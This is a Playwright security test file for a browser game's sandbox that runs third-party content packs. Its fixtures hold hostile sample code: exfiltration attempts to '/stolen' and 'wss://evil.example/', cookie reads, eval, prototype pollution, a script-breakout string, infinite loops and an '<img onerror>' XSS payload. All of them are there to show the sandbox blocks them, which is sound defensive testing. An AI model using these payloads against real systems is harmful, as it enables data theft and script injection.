import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { PackedBox } from '@haven/table/boxes'
import { expect, type Page, test } from '@playwright/test'
import { honestBox, ITS_END, ITS_GAME, lay, otherBox } from './foreign-box.ts'
import { answers, byPointer, load, playNow, playOn, put, theEnd } from './player.ts'
import { isSample } from './sample.ts'

/** Boxes of strangers run sealed off: what they try harms nothing, and they are named. */

/** A page with a game that was there before, and this box on the device. */
async function visit(page: Page, box: PackedBox): Promise<void> {
  await page.goto('/credits')
  await lay(page, box)
}

const named = (page: Page, name: string) => page.getByRole('heading', { name: `“${name}” was put out` })

test('an honest box is played to the end of a short game against a bot, over a page that was loaded anew', async ({
  page,
}) => {
  test.slow()
  await visit(page, honestBox())
  await load(page, ITS_END, 'the heroes')
  await expect(page.locator('iframe[sandbox="allow-scripts"]')).toHaveCount(1)
  expect(await playOn(page, 7, byPointer, 4)).toBe(4)
  await page.reload()
  await expect(answers(page).first()).toBeVisible({ timeout: 30_000 })
  await playOn(page, 8)
  await expect(theEnd(page)).toBeVisible({ timeout: 30_000 })
})

/** Before the box is made, and whenever its sin is looked at. */
const first = (code: string) => (script: string) => `(kit) => { ${code}; return (${script})(kit) }`
/** When a game is set up on its map. */
const inCall = (code: string) => (script: string) =>
  `(kit) => {
    const box = (${script})(kit)
    return { ...box, maps: box.maps.map((map) => ({ ...map, get monsters() { ${code}; return map.monsters } })) }
  }`
/** Its map as another one. */
const withMap = (fields: string) => (script: string) =>
  `(kit) => { const box = (${script})(kit); return { ...box, maps: box.maps.map((map) => ({ ...map, ${fields} })) } }`

const TRIES = `
const out = []
const attempt = (name, deed) => { try { const found = deed(); if (found !== undefined) out.push(name + ' ' + String(found)) } catch {} }
const all = (0, function () { return this })() ?? globalThis
attempt('indexedDB', () => typeof indexedDB === 'undefined' ? undefined : 'there')
attempt('caches', () => typeof caches === 'undefined' ? undefined : 'there')
attempt('navigator', () => typeof navigator === 'undefined' ? undefined : 'there')
attempt('BroadcastChannel', () => new BroadcastChannel('haven-tables'))
attempt('fetch', () => fetch('/stolen'))
attempt('xhr', () => new XMLHttpRequest())
attempt('socket', () => new WebSocket('wss://evil.example/'))
attempt('source', () => new EventSource('/stolen'))
attempt('rtc', () => new RTCPeerConnection())
attempt('importScripts', () => importScripts('/stolen.js'))
attempt('image', () => new Image())
attempt('worker', () => new Worker('/stolen.js'))
attempt('post', () => postMessage('x'))
attempt('document', () => document.cookie)
attempt('time', () => new Date())
attempt('performance', () => performance.now())
attempt('chance', () => Math.random())
attempt('crypto', () => crypto)
attempt('timer', () => setTimeout(() => 0, 0))
attempt('here', () => Intl.DateTimeFormat().format())
attempt('eval', () => (0, eval)('1'))
attempt('function', () => Function('return 1')())
attempt('constructor', () => (() => 1).constructor('return 1')())
attempt('async', () => (async () => 1).constructor('return 1')())
attempt('global', () => { globalThis.fetch = 1; return globalThis.fetch })
attempt('this', () => typeof all.postMessage === 'undefined' ? undefined : 'there')
attempt('prototype', () => { Array.prototype.map = 1; return 'patched' })
attempt('object', () => { Object.prototype.x = 1; return 'patched' })
attempt('json', () => { JSON.stringify = 1; return 'patched' })
attempt('promise', () => { Promise.prototype.then = 1; return 'patched' })
attempt('iterator', () => { [][Symbol.iterator]().__proto__.next = 1; return 'patched' })
attempt('error', () => { Error.prepareStackTrace = 1; return 'patched' })
throw new Error('gained: ' + (out.join(', ') || 'nothing'))
`

test('what it tries to reach is not there: storage, network, time, chance, other code', async ({ page }) => {
  await visit(page, otherBox('Burglar', first(TRIES)))
  await put(page, ITS_GAME, 'the heroes')
  await expect(named(page, 'Burglar')).toBeVisible()
  await page.getByText('What the program says').click()
  await expect(page.locator('pre')).toHaveText(/gained: nothing/)
})

test('with the worker unlocked the frame alone keeps storage and network away', async ({ page }) => {
  // It answers everybody: who asks has come through.
  const asked: string[] = []
  const beyond = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(200, {
      'access-control-allow-origin': '*',
      'cross-origin-resource-policy': 'cross-origin',
      'content-type': 'text/javascript',
    })
    response.end('0')
  })
  await new Promise<void>((resolve) => beyond.listen(0, '127.0.0.1', resolve))
  const away = `127.0.0.1:${(beyond.address() as AddressInfo).port}`
  // What would be if our own part let everything stand.
  await page.route('**/assets/cell-*.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `globalThis.havenCell = () => {
        const tell = []
        const note = (name) => [(value) => tell.push(name + ' ' + value), () => tell.push(name + ' no')]
        const attempt = async (name, deed) => { try { await deed().then(...note(name)) } catch { tell.push(name + ' no') } }
        addEventListener('message', async ({ ports: [port] }) => {
          await attempt('fetch', () => fetch('http://${away}/a'))
          await attempt('far', () => fetch('http://${away}/b', { mode: 'no-cors' }))
          await attempt('indexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('haven-tables'); r.onsuccess = () => resolve('open'); r.onerror = reject }))
          await attempt('caches', () => caches.keys())
          await attempt('files', () => navigator.storage.getDirectory())
          await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket('ws://${away}/c'); s.onopen = resolve; s.onerror = reject }))
          await attempt('script', async () => importScripts('http://${away}/d.js'))
          await attempt('module', () => import('http://${away}/e.js'))
          new BroadcastChannel('haven-tables').postMessage({ id: 'stolen', version: 1 })
          port.postMessage(JSON.stringify({ from: 'failed', message: 'gained: ' + tell.join(', ') }))
        })
      }`,
    }),
  )
  await visit(
    page,
    otherBox('Burglar', (script) => script),
  )
  await page.evaluate(() => {
    const channel = new BroadcastChannel('haven-tables')
    channel.onmessage = ({ data }) => document.documentElement.setAttribute('data-heard', JSON.stringify(data))
  })
  await put(page, ITS_GAME, 'the heroes')
  await expect(named(page, 'Burglar')).toHaveCount(0)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(/put out/, { timeout: 20_000 })
  await page.getByText('What the program says').click()
  await expect(page.locator('pre')).toHaveText(
    'gained: fetch no, far no, indexedDB no, caches no, files no, socket no, script no, module no',
  )
  expect(asked).toEqual([])
  expect(await page.locator('html').getAttribute('data-heard')).toBeNull()
  beyond.close()
})

const BREAKS: readonly (readonly [name: string, why: RegExp, make: (script: string) => string])[] = [
  ['Thrower', /broke a rule/, first('throw { toString() { for (;;); } }')],
  ['No Script', /broke a rule/, () => '(kit) => {'],
  ['Breakout', /broke a rule/, () => '0); } function Object() {} (() => { (0'],
  ['Not a Box', /broke a rule/, () => '(kit) => ({ id: "low-tide", version: "9" })'],
  ['Patched', /broke a rule/, first('"use strict"; Array.prototype.push = () => 0')],
  ['Endless', /not answered/, first('for (;;);')],
  ['Endless Rule', /not answered/, inCall('for (;;);')],
  ['Endless Promise', /not answered/, first('const again = () => Promise.resolve().then(again); again()')],
  ['Throwing Rule', /broke a rule/, inCall('throw new Error("no")')],
  [
    'Markup',
    /makes no sense/,
    withMap("metro: map.metro.map((each) => ({ ...each, color: '<img src=x onerror=alert(1)>' }))"),
  ],
  ['Nonsense', /makes no sense/, withMap('metro: Array(200).fill(map.metro[0])')],
]

test('each box that breaks is named, and what was there before goes on', async ({ page }) => {
  test.slow()
  await playNow(page)
  const before = new URL(page.url()).pathname
  // In a sample every third of them.
  for (const [name, why, make] of isSample ? BREAKS.filter((_, i) => i % 5 === 0) : BREAKS) {
    await visit(page, otherBox(name, make))
    await put(page, ITS_GAME, 'the heroes')
    await expect(named(page, name)).toBeVisible({ timeout: 30_000 })
    await expect(page.getByText(why)).toBeVisible()
    await expect(page.locator('iframe')).toHaveCount(0)
    await page.goto(`${before}?speed=instant`)
    await expect(answers(page).first()).toBeVisible({ timeout: 30_000 })
  }
})

/** Our part of the cell is gone, and this stands in its place: the gate alone is left. */
async function unlocked(page: Page, body: string): Promise<void> {
  await page.route('**/assets/cell-*.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `globalThis.havenCell = () => addEventListener('message', ({ ports: [port] }) => {
        const say = (message) => port.postMessage(typeof message === 'string' ? message : JSON.stringify(message))
        say({ from: 'locked' })
        port.onmessage = ({ data }) => { const heard = JSON.parse(data); if (heard.to === 'begin') { say({ from: 'ready' }); ${body} } }
      })`,
    }),
  )
}

const FLOODS = [
  ['Flood', /far too much/, 'for (;;) say({ from: "pong", id: 1 })'],
  ['Big Words', /far too much/, 'say("x".repeat(50e6))'],
  ['No Text', /makes no sense/, 'port.postMessage({ from: "pong", get id() { return 1 } })'],
  ['Fifty', /makes no sense/, 'port.postMessage(new Uint8Array(50e6))'],
  ['Other Tables', /makes no sense/, 'say({ from: "store", id: 1, ask: { store: "list" } })'],
] as const

test('the gate holds where nothing inside does', async ({ page }) => {
  test.slow()
  for (const [name, why, body] of FLOODS) {
    await unlocked(page, body)
    await visit(
      page,
      otherBox(name, (script) => script),
    )
    await put(page, ITS_GAME, 'the heroes')
    await expect(named(page, name)).toBeVisible({ timeout: 30_000 })
    await expect(page.getByText(why)).toBeVisible()
    await page.goto('/load')
    await expect(page.getByText('No saved games yet.')).toBeVisible()
    await page.unrouteAll()
  }
})
